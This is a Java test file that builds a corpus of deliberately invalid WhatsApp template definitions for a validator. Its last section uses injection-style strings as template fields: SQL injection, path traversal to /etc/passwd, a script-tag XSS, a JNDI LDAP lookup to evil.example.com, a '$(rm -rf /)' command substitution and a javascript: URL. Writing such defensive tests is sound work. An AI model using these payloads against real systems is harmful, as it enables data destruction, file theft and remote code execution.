package com.eumsocial.whatsapp.reliability.badinput;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;

/**
 * The bad-input corpus: definitions that each break one thing (every validator rule, malformed
 * JSON, wrong JSON types, oversize definition and components, unusual Unicode, injection-like
 * strings), with the rule and the field a refusal must name.
 */
final class InvalidDefinitions {
    private static final ObjectMapper MAPPER = new ObjectMapper()
            .enable(com.fasterxml.jackson.databind.DeserializationFeature.FAIL_ON_TRAILING_TOKENS);
    private static final JsonNodeFactory F = JsonNodeFactory.instance;

    /**
     * @param id    short name of the case (also the template name's suffix where the name is valid)
     * @param rule  the validator rule id expected among the problems
     * @param path  the field (validator path, "components[1].text") a refusal must name; "" = the whole definition
     * @param json  the definition text as a user would write it
     */
    record Case(String id, String rule, String path, String json) {
        boolean isJsonObject() {
            try {
                JsonNode n = MAPPER.readTree(json);
                return n != null && n.isObject();
            } catch (Exception e) {
                return false;
            }
        }

        @Override
        public String toString() {
            return id + " (" + rule + " at " + (path.isEmpty() ? "<root>" : path) + ")";
        }
    }

    static final String MARKETING = """
            {"name":"order_update","language":"en_US","category":"MARKETING","components":[
             {"type":"HEADER","format":"TEXT","text":"Your order"},
             {"type":"BODY","text":"Hello {{1}}, your order {{2}} ships today from our garden shop.","example":{"body_text":[["Ana","A-1"]]}},
             {"type":"FOOTER","text":"Reply STOP to opt out"},
             {"type":"BUTTONS","buttons":[{"type":"QUICK_REPLY","text":"Stop"}]}]}""";
    static final String AUTHENTICATION = """
            {"name":"login_code","language":"en","category":"AUTHENTICATION","components":[
             {"type":"BODY","add_security_recommendation":true},
             {"type":"FOOTER","code_expiration_minutes":10},
             {"type":"BUTTONS","buttons":[{"type":"OTP","otp_type":"COPY_CODE","text":"Copy code"}]}]}""";
    static final String NAMED = """
            {"name":"parcel_news","language":"en","category":"UTILITY","parameter_format":"named","components":[
             {"type":"BODY","text":"Hi {{first_name}}, your parcel arrives on {{day}} before noon today.",
              "example":{"body_text_named_params":[{"param_name":"first_name","example":"Ana"},{"param_name":"day","example":"Monday"}]}}]}""";

    private final List<Case> cases = new ArrayList<>();

    static List<Case> all() {
        InvalidDefinitions c = new InvalidDefinitions();
        c.build();
        return List.copyOf(c.cases);
    }

    /** Issue 13's template kinds: one case per rule, written with ' for ". */
    private void kinds() {
        String message = "{'type':'BODY','text':'Rare succulents for your home, all under 25 dollars this week.'}";
        String qr = "{'type':'QUICK_REPLY','text':'More like this'}";
        String card = "{'components':[{'type':'HEADER','format':'IMAGE','example':{'header_handle':['4::aW1hZ2U=']}},"
                + "{'type':'BUTTONS','buttons':[" + qr + "]}]}";
        String lto = "{'type':'LIMITED_TIME_OFFER','limited_time_offer':{'text':'Expiring offer!','has_expiration':true}}";
        String ltoBody = "{'type':'BODY','text':'Good news! Use the code below to get 25 percent off all packages.'}";
        String ltoButtons = "{'type':'BUTTONS','buttons':[{'type':'COPY_CODE','example':'CARIBE25'},"
                + "{'type':'URL','text':'Book now','url':'https://travel.example.com/offers'}]}";
        kind("carousel_in_utility", "carousel-category", "components[1].type", "UTILITY", message, carousel(card, card));
        kind("carousel_with_footer", "carousel-companions", "components[1]", "MARKETING", message,
                "{'type':'FOOTER','text':'Reply STOP'}", carousel(card, card));
        kind("carousel_one_card", "carousel-cards-count", "components[1].cards", "MARKETING", message, carousel(card));
        kind("carousel_card_footer", "carousel-card-component", "components[1].cards[1].components[1].type", "MARKETING", message,
                carousel(card, "{'components':[{'type':'HEADER','format':'IMAGE','example':{'header_handle':['4::aW1hZ2U=']}},"
                        + "{'type':'FOOTER','text':'x'},{'type':'BUTTONS','buttons':[" + qr + "]}]}"));
        kind("carousel_card_document", "carousel-card-header", "components[1].cards[0].components[0].format", "MARKETING", message,
                carousel(card.replace("IMAGE", "DOCUMENT"), card.replace("IMAGE", "DOCUMENT")));
        kind("carousel_three_buttons", "carousel-card-buttons", "components[1].cards[0].components[1].buttons", "MARKETING", message,
                carousel(card.replace(qr, qr + "," + qr + "," + qr), card.replace(qr, qr + "," + qr + "," + qr)));
        kind("carousel_cards_differ", "carousel-cards-alike", "components[1].cards[1].components", "MARKETING", message,
                carousel(card, card.replace("'IMAGE'", "'VIDEO'")));
        kind("offer_in_utility", "lto-category", "components[0].type", "UTILITY", lto, ltoBody, ltoButtons);
        kind("offer_text_17", "lto-text", "components[0].limited_time_offer.text", "MARKETING",
                lto.replace("Expiring offer!", "Expiring offer!!!"), ltoBody, ltoButtons);
        kind("offer_text_header", "lto-header", "components[0].format", "MARKETING",
                "{'type':'HEADER','format':'TEXT','text':'Sale'}", lto, ltoBody, ltoButtons);
        kind("offer_footer", "lto-footer", "components[2]", "MARKETING", lto, ltoBody, "{'type':'FOOTER','text':'Terms apply'}",
                ltoButtons);
        kind("offer_without_url", "lto-buttons", "components[2].buttons", "MARKETING", lto, ltoBody,
                "{'type':'BUTTONS','buttons':[{'type':'COPY_CODE','example':'CARIBE25'}]}");
        kind("call_request_in_auth", "call-permission-category", "components[1].type", "AUTHENTICATION",
                "{'type':'BODY','add_security_recommendation':true}", "{'type':'CALL_PERMISSION_REQUEST'}",
                "{'type':'BUTTONS','buttons':[{'type':'OTP','otp_type':'COPY_CODE'}]}");
        kind("call_request_with_buttons", "call-permission-companions", "components[2]", "MARKETING", message,
                "{'type':'CALL_PERMISSION_REQUEST'}", "{'type':'BUTTONS','buttons':[" + qr + "]}");
        kind("gif_in_utility", "header-marketing-only", "components[0].format", "UTILITY",
                "{'type':'HEADER','format':'GIF','example':{'header_handle':['4::dmlkZW8=']}}", message);
        kind("product_without_spm", "product-header-spm", "components[0].format", "MARKETING",
                "{'type':'HEADER','format':'PRODUCT'}", message, "{'type':'BUTTONS','buttons':[" + qr + "]}");
    }

    private static String carousel(String... cards) {
        return "{'type':'CAROUSEL','cards':[" + String.join(",", cards) + "]}";
    }

    private void kind(String id, String rule, String path, String category, String... components) {
        raw(id, rule, path, ("{'name':'" + id + "','language':'en_US','category':'" + category + "','components':["
                + String.join(",", components) + "]}").replace('\'', '"'));
    }

    private void raw(String id, String rule, String path, String json) {
        cases.add(new Case(id, rule, path, json));
    }

    /** A base definition with edits: pairs of JSON pointer and new value (null value = remove). */
    private void edit(String id, String rule, String path, String base, Object... edits) {
        ObjectNode root = (ObjectNode) parse(base);
        for (int i = 0; i < edits.length; i += 2) {
            String pointer = (String) edits[i];
            Object value = edits[i + 1];
            int slash = pointer.lastIndexOf('/');
            JsonNode parent = root.at(pointer.substring(0, slash));
            String last = pointer.substring(slash + 1);
            JsonNode node = value == null ? null : value instanceof JsonNode j ? j : value instanceof String s
                    ? F.textNode(s) : value instanceof Integer n ? F.numberNode(n) : value instanceof Boolean b
                    ? F.booleanNode(b) : parse(value.toString());
            if (parent.isObject()) {
                if (node == null) {
                    ((ObjectNode) parent).remove(last);
                } else {
                    ((ObjectNode) parent).set(last, node);
                }
            } else if (parent.isArray()) {
                ArrayNode array = (ArrayNode) parent;
                if (last.equals("-")) {
                    array.add(node);
                } else if (node == null) {
                    array.remove(Integer.parseInt(last));
                } else {
                    array.set(Integer.parseInt(last), node);
                }
            } else {
                throw new IllegalArgumentException(id + ": no parent at " + pointer);
            }
        }
        cases.add(new Case(id, rule, path, root.toString()));
    }

    private static JsonNode json(String text) {
        return parse(text);
    }

    static JsonNode parse(String text) {
        try {
            return MAPPER.readTree(text);
        } catch (Exception e) {
            throw new IllegalArgumentException(text, e);
        }
    }

    private static String quickReplies(int n) {
        StringBuilder s = new StringBuilder("[");
        for (int i = 0; i < n; i++) {
            s.append(i == 0 ? "" : ",").append("{\"type\":\"QUICK_REPLY\",\"text\":\"Option ").append(i + 1).append("\"}");
        }
        return s.append("]").toString();
    }

    private void build() {
        kinds();
        String body = "/components/1";
        String buttons = "/components/3/buttons";
        // ---- malformed JSON and JSON types
        raw("truncated", "json-syntax", "", MARKETING.substring(0, 80));
        raw("trailing_brace", "json-syntax", "", MARKETING + "}");
        raw("single_quotes", "json-syntax", "", "{'name':'order_update'}");
        raw("not_an_object", "json-syntax", "", "[" + MARKETING + "]");
        edit("name_number", "json-type", "name", MARKETING, "/name", 42);
        edit("components_object", "json-type", "components", MARKETING, "/components", json("{\"type\":\"BODY\"}"));
        edit("body_text_number", "json-type", "components[1].text", MARKETING, body + "/text", 7);
        edit("example_string", "json-type", "components[1].example", MARKETING, body + "/example", "Ana");
        edit("buttons_object", "json-type", "components[3].buttons", MARKETING, "/components/3/buttons",
                json("{\"type\":\"QUICK_REPLY\"}"));
        edit("auth_flag_string", "json-type", "components[0].add_security_recommendation", AUTHENTICATION,
                "/components/0/add_security_recommendation", "yes");
        // ---- enumerations
        edit("component_type", "component-type", "components[2].type", MARKETING, "/components/2/type", "SIDEBAR");
        edit("header_format", "header-format", "components[0].format", MARKETING, "/components/0/format", "HOLOGRAM");
        edit("header_format_padded", "header-format", "components[0].format", MARKETING, "/components/0/format", " TEXT");
        edit("button_type", "button-type", "components[3].buttons[0].type", MARKETING, buttons + "/0/type", "CALLBACK");
        edit("category_missing", "category", "category", MARKETING, "/category", null);
        edit("category_unknown", "category", "category", MARKETING, "/category", "PROMO");
        edit("parameter_format", "parameter-format", "parameter_format", MARKETING, "/parameter_format", "numbered");
        edit("otp_type", "otp-type", "components[2].buttons[0].otp_type", AUTHENTICATION,
                "/components/2/buttons/0/otp_type", "SMS");
        // ---- name and language
        edit("name_missing", "name-required", "name", MARKETING, "/name", null);
        edit("name_charset", "name-charset", "name", MARKETING, "/name", "Order-Update");
        edit("name_length", "name-length", "name", MARKETING, "/name", "a".repeat(513));
        edit("language_missing", "language-required", "language", MARKETING, "/language", null);
        edit("language_length", "language-length", "language", MARKETING, "/language", "en_US_POSIX");
        edit("language_format", "language-format", "language", MARKETING, "/language", "EN");
        edit("language_unsupported", "language-supported", "language", MARKETING, "/language", "zz_ZZ");
        // ---- sizes
        edit("definition_over_6000_bytes", "definition-size", "", MARKETING, "/notes", "n".repeat(6100));
        // Components over the update call's 3000 bytes are a warning now (issue 13): created, replaced when changed.
        edit("ttl_out_of_range", "message-send-ttl", "message_send_ttl_seconds", MARKETING, "/message_send_ttl_seconds", 600);
        // ---- components
        edit("components_empty", "components-required", "components", MARKETING, "/components", json("[]"));
        edit("body_missing", "body-required", "components", MARKETING, "/components/1", null);
        edit("footer_twice", "component-duplicate", "components[3]", MARKETING, "/components/3",
                json("{\"type\":\"FOOTER\",\"text\":\"Thanks\"}"));
        edit("body_text_missing", "text-required", "components[1].text", MARKETING, body + "/text", null,
                body + "/example", null);
        edit("header_text_missing", "text-required", "components[0].text", MARKETING, "/components/0/text", null);
        edit("header_text_61", "header-text-length", "components[0].text", MARKETING, "/components/0/text", "h".repeat(61));
        edit("body_text_1025", "body-text-length", "components[1].text", MARKETING, body + "/text", "b".repeat(1025),
                body + "/example", null);
        edit("footer_text_61", "footer-text-length", "components[2].text", MARKETING, "/components/2/text", "f".repeat(61));
        edit("header_two_parameters", "header-parameter-count", "components[0].text", MARKETING,
                "/components/0/text", "Order {{1}} for {{2}}", "/components/0/example", json("{\"header_text\":[\"A\",\"B\"]}"));
        edit("location_in_authentication", "header-location-category", "components[0].format", AUTHENTICATION,
                "/components/0", json("{\"type\":\"HEADER\",\"format\":\"LOCATION\"}"), "/components/-",
                json("{\"type\":\"BODY\",\"add_security_recommendation\":true}"), "/components/1", null);
        edit("image_without_handle", "header-handle", "components[0].example.header_handle", MARKETING,
                "/components/0", json("{\"type\":\"HEADER\",\"format\":\"IMAGE\"}"));
        edit("image_cdn_url", "header-handle", "components[0].example.header_handle[0]", MARKETING,
                "/components/0", json("{\"type\":\"HEADER\",\"format\":\"IMAGE\",\"example\":{\"header_handle\":[\"https://cdn.example.com/a.png\"]}}"));
        edit("footer_parameter", "footer-parameters", "components[2].text", MARKETING, "/components/2/text", "Bye {{1}}");
        edit("security_flag_in_marketing", "authentication-only-field", "components[1].add_security_recommendation",
                MARKETING, body + "/add_security_recommendation", true);
        edit("expiry_in_marketing_footer", "authentication-only-field", "components[2].code_expiration_minutes",
                MARKETING, "/components/2/code_expiration_minutes", 10);
        // ---- parameters and examples
        edit("unclosed_brace", "parameter-braces", "components[1].text", MARKETING, body + "/text",
                "Hello {{1}, your order {{2}} ships today from our garden shop.");
        edit("hash_in_parameter", "parameter-characters", "components[1].text", MARKETING, body + "/text",
                "Hello {{#1}}, your order {{2}} ships today from our garden shop.");
        edit("hyphen_in_name", "parameter-syntax", "components[0].text", NAMED, "/components/0/text",
                "Hi {{first-name}}, your parcel arrives on {{day}} before noon today.");
        edit("positional_in_named", "parameter-format-mismatch", "components[0].text", NAMED, "/components/0/text",
                "Hi {{1}}, your parcel arrives on {{day}} before noon today.");
        edit("sequence_gap", "parameter-sequence", "components[1].text", MARKETING, body + "/text",
                "Hello {{1}}, your order {{3}} ships today from our garden shop.");
        edit("named_twice", "parameter-duplicate-name", "components[0].text", NAMED, "/components/0/text",
                "Hi {{first_name}}, your parcel for {{first_name}} arrives on {{day}} before noon today.");
        edit("starts_with_parameter", "parameter-at-edge", "components[1].text", MARKETING, body + "/text",
                "{{1}}, your order {{2}} ships today from our garden shop.");
        edit("ends_with_parameter", "parameter-at-edge", "components[1].text", MARKETING, body + "/text",
                "Hello there, your order from our garden shop is {{1}} and ships on {{2}}.");
        edit("adjacent_parameters", "parameter-adjacent", "components[1].text", MARKETING, body + "/text",
                "Hello {{1}} {{2}} ships today from our garden shop.");
        edit("too_dense", "parameter-density", "components[1].text", MARKETING, body + "/text",
                "Hi {{1}} and {{2}} ok");
        edit("example_missing", "example-required", "components[1].example", MARKETING, body + "/example", null);
        edit("example_count", "example-count", "components[1].example.body_text[0]", MARKETING, body + "/example",
                json("{\"body_text\":[[\"Ana\"]]}"));
        edit("example_wrong_name", "example-names", "components[0].example.body_text_named_params", NAMED,
                "/components/0/example/body_text_named_params/1/param_name", "weekday");
        edit("example_blank", "example-value", "components[1].example.body_text[0][1]", MARKETING, body + "/example",
                json("{\"body_text\":[[\"Ana\",\" \"]]}"));
        // ---- buttons
        edit("buttons_empty", "buttons-empty", "components[3].buttons", MARKETING, buttons, json("[]"));
        edit("eleven_buttons", "buttons-count", "components[3].buttons", MARKETING, buttons, json(quickReplies(11)));
        edit("three_url_buttons", "buttons-url-count", "components[3].buttons", MARKETING, buttons, json("""
                [{"type":"URL","text":"A","url":"https://a.example.com"},{"type":"URL","text":"B","url":"https://b.example.com"},
                 {"type":"URL","text":"C","url":"https://c.example.com"}]"""));
        edit("two_phone_buttons", "buttons-phone-count", "components[3].buttons", MARKETING, buttons, json("""
                [{"type":"PHONE_NUMBER","text":"A","phone_number":"+15550100"},{"type":"PHONE_NUMBER","text":"B","phone_number":"+15550101"}]"""));
        edit("two_copy_codes", "buttons-copy-code-count", "components[3].buttons", MARKETING, buttons, json("""
                [{"type":"COPY_CODE","example":"SAVE10"},{"type":"COPY_CODE","example":"SAVE20"}]"""));
        edit("quick_replies_interleaved", "buttons-quick-reply-grouping", "components[3].buttons", MARKETING, buttons, json("""
                [{"type":"QUICK_REPLY","text":"A"},{"type":"URL","text":"B","url":"https://b.example.com"},{"type":"QUICK_REPLY","text":"C"}]"""));
        edit("button_text_missing", "button-text-required", "components[3].buttons[0].text", MARKETING,
                buttons + "/0/text", null);
        edit("button_text_26", "button-text-length", "components[3].buttons[0].text", MARKETING, buttons + "/0/text",
                "t".repeat(26));
        edit("url_missing", "button-url-required", "components[3].buttons[0].url", MARKETING, buttons,
                json("[{\"type\":\"URL\",\"text\":\"Shop\"}]"));
        edit("url_2001", "button-url-length", "components[3].buttons[0].url", MARKETING, buttons,
                json("[{\"type\":\"URL\",\"text\":\"Shop\",\"url\":\"https://a.example.com/" + "u".repeat(1979) + "\"}]"));
        edit("url_scheme", "button-url-scheme", "components[3].buttons[0].url", MARKETING, buttons,
                json("[{\"type\":\"URL\",\"text\":\"Shop\",\"url\":\"ftp://a.example.com/x\"}]"));
        edit("url_parameter_middle", "button-url-parameter", "components[3].buttons[0].url", MARKETING, buttons,
                json("[{\"type\":\"URL\",\"text\":\"Shop\",\"url\":\"https://a.example.com/{{1}}/x\",\"example\":[\"https://a.example.com/1/x\"]}]"));
        edit("url_example_missing", "button-url-example", "components[3].buttons[0].example", MARKETING, buttons,
                json("[{\"type\":\"URL\",\"text\":\"Shop\",\"url\":\"https://a.example.com/{{1}}\"}]"));
        edit("phone_missing", "button-phone-required", "components[3].buttons[0].phone_number", MARKETING, buttons,
                json("[{\"type\":\"PHONE_NUMBER\",\"text\":\"Call\"}]"));
        edit("phone_21", "button-phone-length", "components[3].buttons[0].phone_number", MARKETING, buttons,
                json("[{\"type\":\"PHONE_NUMBER\",\"text\":\"Call\",\"phone_number\":\"+" + "1".repeat(20) + "\"}]"));
        edit("copy_code_without_example", "button-copy-code-example", "components[3].buttons[0].example", MARKETING,
                buttons, json("[{\"type\":\"COPY_CODE\"}]"));
        edit("flow_without_reference", "button-flow-reference", "components[3].buttons[0]", MARKETING, buttons,
                json("[{\"type\":\"FLOW\",\"text\":\"Book\"}]"));
        edit("flow_action", "button-flow-action", "components[3].buttons[0].flow_action", MARKETING, buttons,
                json("[{\"type\":\"FLOW\",\"text\":\"Book\",\"flow_id\":\"123\",\"flow_action\":\"jump\"}]"));
        edit("otp_in_marketing", "button-otp-category", "components[3].buttons[0].type", MARKETING, buttons,
                json("[{\"type\":\"OTP\",\"otp_type\":\"COPY_CODE\"}]"));
        edit("phone_letters", "button-phone-format", "components[3].buttons[0].phone_number", MARKETING, buttons,
                json("[{\"type\":\"PHONE_NUMBER\",\"text\":\"Call\",\"phone_number\":\"+1555CALLNOW\"}]"));
        edit("catalog_in_utility", "button-marketing-only", "components[3].buttons[0].type", MARKETING, "/category",
                "UTILITY", buttons, json("[{\"type\":\"CATALOG\",\"text\":\"View catalog\"}]"));
        edit("header_asterisk", "header-text-characters", "components[0].text", MARKETING, "/components/0/text",
                "*Big* order news");
        edit("header_new_line", "header-text-characters", "components[0].text", MARKETING, "/components/0/text",
                "Order\nnews");
        edit("footer_emoji", "footer-text-characters", "components[2].text", MARKETING, "/components/2/text",
                "Thanks 🙏");
        // ---- AUTHENTICATION
        edit("auth_url", "auth-url", "components[2].buttons[0].text", AUTHENTICATION,
                "/components/2/buttons/0/text", "https://x.io");
        edit("auth_zero_tap_terms", "auth-zero-tap-terms", "components[2].buttons[0].zero_tap_terms_accepted",
                AUTHENTICATION, "/components/2/buttons/0", json("""
                {"type":"OTP","otp_type":"ZERO_TAP","supported_apps":[{"package_name":"com.example.app","signature_hash":"K8a/AINcGX7"}]}"""));
        edit("auth_header", "auth-header", "components[0]", AUTHENTICATION, "/components/0",
                json("{\"type\":\"HEADER\",\"format\":\"TEXT\",\"text\":\"Code\"}"), "/components/-",
                json("{\"type\":\"BODY\",\"add_security_recommendation\":true}"), "/components/1", null);
        edit("auth_body_text", "auth-body", "components[0].text", AUTHENTICATION, "/components/0/text", "Your code");
        edit("auth_footer_text", "auth-footer", "components[1].text", AUTHENTICATION, "/components/1/text", "Soon");
        edit("auth_expiry_91", "auth-code-expiration", "components[1].code_expiration_minutes", AUTHENTICATION,
                "/components/1/code_expiration_minutes", 91);
        edit("auth_quick_reply", "auth-buttons", "components[2].buttons", AUTHENTICATION, "/components/2/buttons",
                json("[{\"type\":\"QUICK_REPLY\",\"text\":\"Resend\"}]"));
        edit("auth_one_tap_without_apps", "auth-supported-apps", "components[2].buttons[0].supported_apps",
                AUTHENTICATION, "/components/2/buttons/0/otp_type", "ONE_TAP");
        edit("auth_emoji", "auth-emoji", "components[2].buttons[0].text", AUTHENTICATION,
                "/components/2/buttons/0/text", "Copy 🔑");
        // ---- unusual Unicode
        edit("name_accented", "name-charset", "name", MARKETING, "/name", "ordér_update");
        edit("name_zero_width_space", "name-charset", "name", MARKETING, "/name", "order\u200bupdate");
        edit("name_fullwidth_digits", "name-charset", "name", MARKETING, "/name", "order_１２");
        edit("name_right_to_left_override", "name-charset", "name", MARKETING, "/name", "order_\u202eetadpu");
        edit("language_non_ascii", "language-format", "language", MARKETING, "/language", "en_ÜS");
        edit("header_emoji_length", "header-text-length", "components[0].text", MARKETING, "/components/0/text",
                "😀".repeat(61));
        edit("parameter_fullwidth_braces", "parameter-syntax", "components[1].text", MARKETING, body + "/text",
                "Hello {{１}}, your order {{2}} ships today from our garden shop.");
        // ---- strings that look like injections
        edit("name_sql", "name-charset", "name", MARKETING, "/name", "x'; DROP TABLE templates; --");
        edit("name_path_traversal", "name-charset", "name", MARKETING, "/name", "../../etc/passwd");
        edit("name_script", "name-charset", "name", MARKETING, "/name", "<script>alert(1)</script>");
        edit("name_jndi", "name-charset", "name", MARKETING, "/name", "${jndi:ldap://evil.example.com/a}");
        edit("language_shell", "language-length", "language", MARKETING, "/language", "$(rm -rf /)");
        edit("category_sql", "category", "category", MARKETING, "/category", "MARKETING' OR '1'='1");
        edit("url_javascript", "button-url-scheme", "components[3].buttons[0].url", MARKETING, buttons,
                json("[{\"type\":\"URL\",\"text\":\"Shop\",\"url\":\"javascript:alert(1)\"}]"));
        edit("parameter_template_injection", "parameter-braces", "components[1].text", MARKETING, body + "/text",
                "Hello {{1}}, your order {{${7*7}}} ships today from our garden shop.");
    }
}
